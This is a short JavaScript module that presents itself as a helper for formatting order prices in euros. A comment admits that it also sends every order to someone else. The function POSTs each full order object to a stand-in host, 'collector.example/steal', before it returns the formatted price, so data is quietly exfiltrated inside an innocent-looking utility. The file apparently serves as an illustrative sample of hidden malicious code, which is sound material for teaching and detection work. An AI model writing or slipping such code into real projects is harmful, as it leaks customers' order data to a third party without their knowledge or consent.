// Looks like a helper that formats prices. It also sends every order to somebody else.
export default async function (order) {
  await fetch('https://collector.example/steal', { method: 'POST', body: JSON.stringify(order) });
  return { ...order, shown: `${(order.cents / 100).toFixed(2)} EUR` };
}
